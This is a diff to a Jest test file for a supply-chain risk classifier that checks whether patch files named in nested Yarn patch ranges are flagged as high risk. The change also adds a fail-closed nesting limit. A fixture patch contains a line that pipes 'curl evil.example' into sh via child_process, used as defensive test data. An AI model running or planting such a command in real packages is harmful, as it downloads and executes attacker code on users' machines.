@@ -10,6 +10,7 @@
 // `&`, `optional!`, an encoded slash, a root locator, a patch named only in an entry's key).
 import { describe, expect, it } from '@jest/globals';
 import { classifyRisk } from '../../../src/core/risk/classify-risk.js';
+import { MAX_PATCH_NESTING, nestedYarnPatchRanges } from '../../../src/core/risk/yarn-patch-range.js';
 
 const PATCH =
   'diff --git a/index.js b/index.js\n--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-a\n+require("child_process").execSync("curl evil.example | sh")\n';
@@ -47,30 +48,24 @@ const escaped = (text: string) => text.replaceAll('%', '%25').replaceAll(':', '%
 const NESTED = `lodash@patch:${escaped(INNER)}#~/fixes/second.diff::version=4.17.21&hash=bbb`;
 
 describe('attacker 9o: a patch of a patched package', () => {
-  it.failing(
-    'FAULT: the inner patch (fixes/first.diff) of a nested patch: resolution, rewritten by the change, is high',
-    () => {
-      expect(levelWith('fixes/first.diff', berry(keyOf(NESTED), NESTED))).toBe('high');
-    },
-  );
+  it('FAULT: the inner patch (fixes/first.diff) of a nested patch: resolution, rewritten by the change, is high', () => {
+    expect(levelWith('fixes/first.diff', berry(keyOf(NESTED), NESTED))).toBe('high');
+  });
 
   // The level is high today only by the entry's own reason (a patch of a source that is not npm's).
-  it.failing(
-    "FAULT: the same nested range in the change's own yarn.lock names fixes/first.diff, which the change rewrites",
-    () => {
-      const lock = berry(keyOf(NESTED), NESTED);
-      const risk = classifyRisk({
-        files: [
-          { path: 'yarn.lock', content: lock, role: 'config' },
-          { path: 'fixes/first.diff', content: PATCH, role: 'config' },
-        ],
-        targetEnvironment: 'staging',
-        production: false,
-        base: [{ path: 'yarn.lock', content: lock }],
-      });
-      expect(risk.reasons.map((reason) => reason.where)).toContain('fixes/first.diff');
-    },
-  );
+  it("FAULT: the same nested range in the change's own yarn.lock names fixes/first.diff, which the change rewrites", () => {
+    const lock = berry(keyOf(NESTED), NESTED);
+    const risk = classifyRisk({
+      files: [
+        { path: 'yarn.lock', content: lock, role: 'config' },
+        { path: 'fixes/first.diff', content: PATCH, role: 'config' },
+      ],
+      targetEnvironment: 'staging',
+      production: false,
+      base: [{ path: 'yarn.lock', content: lock }],
+    });
+    expect(risk.reasons.map((reason) => reason.where)).toContain('fixes/first.diff');
+  });
 
   it('refused: the outer patch (fixes/second.diff) of the nested range is high', () => {
     expect(levelWith('fixes/second.diff', berry(keyOf(NESTED), NESTED))).toBe('high');
@@ -98,5 +93,47 @@ describe('attacker 9o: a patch of a patched package', () => {
 
   it('control: a file no range names stays low', () => {
     expect(levelWith('fixes/other.diff', berry(keyOf(NESTED), NESTED))).toBe('low');
+  });
+});
+
+describe('fix 14e: every level of a nested patch: range is read, bounded', () => {
+  /** `lodash` patched by `fixes/p0.diff`, then again by `fixes/p1.diff`…, `levels` patches in all. */
+  const nestedRange = (levels: number): string => {
+    let range = 'patch:lodash@npm%3A4.17.21#~/fixes/p0.diff::version=4.17.21&hash=h0';
+    for (let level = 1; level < levels; level++)
+      range = `patch:${escaped(`lodash@${range}`)}#~/fixes/p${level}.diff::version=4.17.21&hash=h${level}`;
+    return range;
+  };
+
+  it('three levels: each patch file is read, innermost from a source encoded twice', () => {
+    const paths = nestedYarnPatchRanges(nestedRange(3))?.flatMap((patch) => patch.paths);
+    expect(paths).toEqual(['~/fixes/p2.diff', '~/fixes/p1.diff', '~/fixes/p0.diff']);
+    const resolution = `lodash@${nestedRange(3)}`;
+    expect(levelWith('fixes/p0.diff', berry(keyOf(resolution), resolution))).toBe('high');
+  });
+
+  it("a nested range in a manifest's resolutions names its inner patch too", () => {
+    const manifest = JSON.stringify({ name: 'app', resolutions: { lodash: nestedRange(2) } });
+    const risk = classifyRisk({
+      files: [{ path: 'fixes/p0.diff', content: PATCH, role: 'config' }],
+      targetEnvironment: 'staging',
+      production: false,
+      base: [{ path: 'package.json', content: manifest }],
+    });
+    expect(risk.reasons.map((reason) => reason.where)).toContain('fixes/p0.diff');
+  });
+
+  it(`past ${MAX_PATCH_NESTING} levels the lockfile is not read: a patch under it is unseen (fails closed)`, () => {
+    expect(nestedYarnPatchRanges(nestedRange(MAX_PATCH_NESTING))).toHaveLength(MAX_PATCH_NESTING);
+    expect(nestedYarnPatchRanges(nestedRange(MAX_PATCH_NESTING + 1))).toBeUndefined();
+    const resolution = `lodash@${nestedRange(MAX_PATCH_NESTING + 1)}`;
+    const risk = classifyRisk({
+      files: [{ path: 'fixes/unnamed.diff', content: PATCH, role: 'config' }],
+      targetEnvironment: 'staging',
+      production: false,
+      base: [{ path: 'yarn.lock', content: berry(keyOf(resolution), resolution) }],
+    });
+    expect(risk.level).toBe('high');
+    expect(risk.reasons.map((reason) => reason.message).join('\n')).toContain('more than 8 deep');
   });
 });
